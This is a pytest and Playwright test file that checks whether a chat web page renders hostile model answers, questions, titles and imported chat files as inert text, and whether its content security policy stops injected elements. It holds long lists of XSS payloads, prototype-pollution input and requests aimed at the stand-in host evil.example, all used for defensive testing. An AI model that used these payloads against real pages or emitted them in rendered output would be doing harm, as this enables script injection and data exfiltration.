"""A model whose text attacks the page: nothing of it runs, loads, or stands in the page."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import browsing
from browsing import Visit
from chatpage import answering, asked, violations
from serving import Served

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
RUN = "window.attacked=1"
HTML = (
    f"<script>{RUN}</script>",
    f"<script src='{EVIL}/a.js'></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC='{EVIL}/a.png'>",
    f"<img src='/v1/models?{EVIL}'>",
    f"<img srcset='{EVIL}/a.png 2x'>",
    f"<picture><source srcset='{EVIL}/a.webp'><img src=x></picture>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='{EVIL}/a.svg#x'></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></animate></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe src='{EVIL}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data='{EVIL}/a.swf'></object>",
    f"<embed src='{EVIL}/a.swf'>",
    f"<video src='{EVIL}/a.mp4' autoplay onloadstart={RUN}></video>",
    f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    f"<link rel=stylesheet href='{EVIL}/a.css'>",
    f"<link rel=preload as=image href='{EVIL}/a.png'>",
    f"<style>* {{ background: url({EVIL}/a.png) }}</style>",
    f"<p style='background: url({EVIL}/a.png); position: fixed; inset: 0'>over everything</p>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0; url={EVIL}'>",
    f"<form action='{EVIL}'><input name=key autofocus onfocus={RUN}><button>Go</button></form>",
    f"<button formaction='{EVIL}'>Go</button>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<a href='javascript:{RUN}' id=message>x</a>",
    f"<div id=send class=main name=body popover onmouseover={RUN}>x</div>",
    "<dialog open id=settings><form method=dialog><button>x</button></form></dialog>",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](data:text/html;base64,PHNjcmlwdD4=)\n\n[y](blob:{EVIL}/1)",
    "[x](file:///etc/passwd) [y](//evil.example/a) [z](/v1/moaspec/link)",
    f"<javascript:{RUN}>",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"![x]({EVIL}/a.png)",
    f"![x][1]\n\n[1]: {EVIL}/a.png",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[![x]({EVIL}/a.png)]({EVIL})",
    f'![x" onerror="{RUN}](x)',
    f'[x]({EVIL} "t\\" onmouseover=\\"{RUN}")',
    f'[x]({EVIL}/"onmouseover="{RUN})',
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```",
    f'```x" onmouseover="{RUN}\nx\n```',
    "```hidden drawer main\nx\n```",
    f"    <script>{RUN}</script>",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
    f"- [x] <svg onload={RUN}>\n- [ ] x",
    f"# <iframe src={EVIL}>\n\nx\n<img src=x onerror={RUN}>\n===",
    f"{EVIL}/<script>{RUN}</script>",
    f'<{EVIL}/"onmouseover="{RUN}>',
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"x\0<img src=x onerror={RUN}>\r<script>{RUN}</script>\ufeff\u202e",
    "<" * 3000 + ">" * 3000,
    "> " * 3000 + "x",
    "- " * 3000 + "x",
    "[" * 3000 + "x" + "](y)" * 3000,
    "*a_ " * 3000,
    "|" * 3000 + "\n" + "|-" * 3000,
)

TAGS = (
    "a blockquote br button code del div em h4 h5 h6 hr li ol p pre strong table tbody td th thead "
    "tr ul"
)
ATTRIBUTES = "align aria-label class data-language href rel role start tabindex target title type"
CLASSES = "block code bar small wide"
FAULTS = """([tags, attributes, classes]) => {
    const faults = [];
    for (const one of document.querySelectorAll('.text *')) {
        const names = [...one.attributes].map((attribute) => attribute.name);
        const bad = names.filter((name) => !attributes.includes(name));
        if (!tags.includes(one.localName) || bad.length) faults.push(one.outerHTML.slice(0, 200));
        const odd = [...one.classList].filter((name) => !classes.includes(name));
        if (odd.length) faults.push(`class ${odd}`);
        if (one.localName === 'button' && !one.closest('.bar')) faults.push('a button');
        if (one.hasAttribute('href') && !/^(https?|mailto):$/.test(one.protocol))
            faults.push(one.href);
        if (one.hasAttribute('href') && !one.rel.startsWith('noopener noreferrer'))
            faults.push('rel');
    }
    return faults;
}"""


def attacked(visited: Visit, requests: list[str], url: str) -> list[str]:
    """What an attack has reached: elements, scripts, requests, the page's own place."""
    visited.page.wait_for_timeout(50)
    lists: Any = [TAGS.split(), ATTRIBUTES.split(), CLASSES.split()]
    found: list[str] = visited.page.evaluate(FAULTS, lists)
    if visited.page.evaluate("window.attacked") is not None:
        found.append("a script ran")
    found += [one for one in requests if not one.startswith(url) or "/v1/models" in one]
    found += [] if visited.page.url == f"{url}/" else [visited.page.url]
    # What the content security policy had to stop has passed the sanitiser.
    return found + visited.complaints


@pytest.mark.parametrize("name", ["HTML", "MARKDOWN"])
def test_hostile_answers_are_inert(browser: Browser, local: Served, name: str) -> None:
    payloads = {"HTML": HTML, "MARKDOWN": MARKDOWN}[name]
    with browsing.visit(browser, local.url) as visited:
        requests: list[str] = []
        visited.page.on("request", lambda request: requests.append(request.url))
        visited.page.on("dialog", lambda dialog: visited.complaints.append(dialog.message))
        for payload in payloads:
            with answering(visited, f"{payload}\n\nThe end."):
                visited.page.click("#fresh")
                asked(visited, "Attack")
            assert not attacked(visited, requests, local.url), payload
            assert "The end." in visited.text(".answer .text"), payload
            visited.page.evaluate("document.querySelectorAll('.text a').forEach((a) => a.focus())")
            visited.page.evaluate("localStorage.clear()")


def test_html_is_shown_as_text(browser: Browser, local: Served) -> None:
    text = "Use <b>bold</b>, &amp; and `<i>`.\n\n<div>block</div>"
    with browsing.visit(browser, local.url) as visited, answering(visited, text):
        asked(visited)
        assert visited.text(".answer .text") == "Use <b>bold</b>, & and <i>.\n<div>block</div>"


def test_hostile_questions_titles_and_system_prompts_are_text(
    browser: Browser, local: Served
) -> None:
    question = f"<img src={EVIL} onerror=alert()>"
    with browsing.visit(browser, local.url) as visited, answering(visited, "Yes."):
        requests: list[str] = []
        visited.page.on("request", lambda request: requests.append(request.url))
        asked(visited, question)
        visited.page.click("#show-history")
        assert visited.text(".question") == question
        assert visited.text("#chats .open") == question
        assert visited.count("#log img, #chats img") == 0
        assert not attacked(visited, requests, local.url)


def test_hostile_files_are_inert(browser: Browser, local: Served, tmp_path: Path) -> None:
    """Imported conversations are rebuilt from known fields only."""
    answer = {"id": 2, "parent": 1, "role": "assistant", "text": "\n\n".join(HTML)}
    verdict = {"same": True, "text": f"<img src={EVIL}>"}
    question = {"id": 1, "parent": None, "role": "user", "text": f"<img src={EVIL}>"}
    chats = [
        {
            "id": '"><script>',
            "title": f"<img src={EVIL}>",
            "nodes": [question, {**answer, "runs": [["<b>", -5]], "verdict": verdict}],
            "leaf": 2,
            "__proto__": {"polluted": 1},
        },
        {"nodes": [{**question, "parent": 1}]},
        {"nodes": [{**question, "id": 2**53 - 1}]},
        {"nodes": [question, {**answer, "role": "system"}]},
        {"nodes": [{**question, "text": {"toString": 1}}]},
        {"nodes": [question, question]},
        {"nodes": "x" * 10},
        None,
    ]
    file = tmp_path / "chats.json"
    file.write_text(json.dumps({"format": "moaspec-chats", "version": 1, "chats": chats}))
    with browsing.visit(browser, local.url) as visited:
        requests: list[str] = []
        visited.page.on("request", lambda request: requests.append(request.url))
        visited.page.click("#show-history")
        visited.page.set_input_files("#import-file", file)
        visited.shows("document.querySelector('#imported').textContent !== ''")
        assert visited.text("#imported") == "Imported: 1. Left out because they are damaged: 7."
        visited.page.click("#chats .open")
        visited.shows("document.querySelectorAll('.reply').length === 1")
        assert visited.page.evaluate("({}).polluted") is None
        assert visited.count("#log img, #chats img, #log script") == 0
        assert not attacked(visited, requests, local.url)
        assert not violations(visited)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{", "not JSON"),
        ("[]", "no conversations"),
        ('{"format": "moaspec-chats", "version": 2, "chats": []}', "later version"),
        ('{"format": "moaspec-chats", "version": 1, "chats": {}}', "no conversations"),
        ('{"format": "other", "version": 1, "chats": []}', "no conversations"),
    ],
)
def test_files_that_are_none_are_refused_in_words(
    browser: Browser, local: Served, tmp_path: Path, text: str, words: str
) -> None:
    (tmp_path / "chats.json").write_text(text)
    with browsing.visit(browser, local.url) as visited:
        visited.page.click("#show-history")
        visited.page.set_input_files("#import-file", tmp_path / "chats.json")
        visited.shows("document.querySelector('#imported').textContent !== ''")
        assert words in visited.text("#imported")
        assert not visited.complaints


def test_the_policy_stops_what_a_sanitiser_would_miss(browser: Browser, local: Served) -> None:
    """Each by itself is in the page, put there by the test; nothing runs or leaves."""
    attempts = {
        "img": f"Object.assign(document.createElement('img'), {{src: '{EVIL}/a.png'}})",
        "style": "Object.assign(document.createElement('style'), "
        f"{{textContent: 'body {{ background: url({EVIL}/b.png) }}'}})",
        "script": f"Object.assign(document.createElement('script'), {{text: '{RUN}'}})",
        "iframe": f"Object.assign(document.createElement('iframe'), {{src: '{EVIL}'}})",
        "link": "Object.assign(document.createElement('link'), "
        f"{{rel: 'stylesheet', href: '{EVIL}/c.css'}})",
        "base": f"Object.assign(document.createElement('base'), {{href: '{EVIL}/'}})",
    }
    with browsing.visit(browser, local.url) as visited:
        left: list[str] = []

        def stop(route: Route) -> None:
            left.append(route.request.url)
            route.abort()

        visited.page.route(f"{EVIL}/**", stop)
        for made in attempts.values():
            visited.page.evaluate(f"() => {{ try {{ document.body.append({made}); }} catch {{}} }}")
        visited.page.evaluate(f"() => fetch('{EVIL}/d').catch(() => {{}})")
        visited.page.evaluate(
            f"() => {{ const form = document.createElement('form'); form.action = '{EVIL}';"
            " document.body.append(form); form.submit(); }"
        )
        visited.page.wait_for_timeout(200)
        assert left == []
        assert visited.page.evaluate("window.attacked") is None
        assert visited.page.evaluate("document.baseURI") == f"{local.url}/"
        assert visited.page.url == f"{local.url}/"
